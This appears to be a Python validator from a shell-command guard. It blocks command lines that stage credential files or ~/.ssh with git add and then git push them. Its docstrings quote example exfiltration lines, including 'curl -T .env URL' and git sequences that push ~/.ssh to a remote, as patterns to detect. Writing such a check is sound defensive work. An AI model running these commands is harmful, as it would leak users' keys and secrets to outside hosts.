"""Credential files staged in git and pushed on the same line: the push carries them to the
remote (``git add -f .env && git commit -m x && git push URL``, ``git -C ~/.ssh add -A …
push``). It is ``curl -T .env URL`` spelled in git: exfiltration."""

from __future__ import annotations

from clawgate.decision import NO_OPINION, Verdict
from clawgate.records import replace
from clawgate.shell.model import ParsedLine, SimpleCommand, Word
from clawgate.validators import lineshapes as ls
from clawgate.validators.base import Context, LineValidator, register
from clawgate.validators.credentials import is_credential
from clawgate.validators.flags import git_subcommand
from clawgate.validators.paths import resolve, under

_CHANGERS = frozenset({"cd", "pushd"})
_EVERYTHING = frozenset({"-A", "--all", ".", ":/", "*", "--", "-u", "--update"})


@register
class CredentialPushed(LineValidator):
    """A credential file (or a directory of them, such as ``~/.ssh``) staged with ``git add``
    and a ``git push`` later on the line: the commit carries it to the remote. DENY.

    Bad: ``cd ~/.ssh && git init && git add -A && git commit -m x && git push URL``.
    Harmless: ``git add src/app.py && git commit -m fix && git push``.
    """

    id = "CG-SEC-006"

    def line_shapes(self) -> int:
        return ls.PUSHES  # its first test: "push" and "add" in the line

    def check_line(self, parsed: ParsedLine, ctx: Context) -> Verdict:
        source = parsed.source
        if "push" not in source or "add" not in source:
            return NO_OPINION
        here: str | None = ctx.cwd
        staged: str | None = None
        for cmd in parsed.commands:
            if cmd.program in _CHANGERS:
                here = _moved(cmd, ctx, here)
                continue
            name, args = git_subcommand(cmd)
            repo = _repository(cmd, ctx, here)
            if name == "add" and repo is not None:
                staged = staged or _staged_credential(args, replace(ctx, cwd=repo))
            elif name == "push" and staged is not None:
                return Verdict.deny(self.id, f"git push sends {staged}, a credential this "
                                    "line staged", hint="keep credentials out of commits")
        return NO_OPINION


def _moved(cmd: SimpleCommand, ctx: Context, here: str | None) -> str | None:
    if here is None or len(cmd.words) < 2:
        return None if len(cmd.words) >= 2 else ctx.home
    return resolve(cmd.words[1], replace(ctx, cwd=here)).path


def _repository(cmd: SimpleCommand, ctx: Context, here: str | None) -> str | None:
    """Where git works: the last ``-C DIR`` among its own options (each relative to the one
    before), else the line's current directory."""
    where = here
    words = cmd.words
    for i, word in enumerate(words[1:-1], start=1):
        if word.shown == "-C" and where is not None:
            where = resolve(words[i + 1], replace(ctx, cwd=where)).path
        elif not word.shown.startswith("-"):
            break
    return where


def _staged_credential(args: tuple[Word, ...], ctx: Context) -> str | None:
    """The credential ``git add ARGS`` stages, run in ``ctx.cwd``: one named, or the whole
    repository when that is a credential directory (``git add -A`` in ``~/.ssh``)."""
    repo = ctx.cwd
    everything = not args or any(w.shown in _EVERYTHING for w in args)
    for word in args:
        if word.shown.startswith("-"):
            continue
        path = resolve(word, ctx).path
        if path is not None and is_credential(path, ctx):
            return path
    if everything and (is_credential(repo, ctx) or any(
            is_credential(parent, ctx) for parent in _parents(repo, ctx))):
        return repo
    return None


def _parents(path: str, ctx: Context) -> list[str]:
    """The directories above ``path`` up to the home directory (``~/.ssh/keys`` is below the
    credential directory ``~/.ssh``)."""
    found: list[str] = []
    while "/" in path.rstrip("/") and under(path, ctx.home) and path != ctx.home:
        path = path.rsplit("/", 1)[0] or "/"
        found.append(path)
    return found
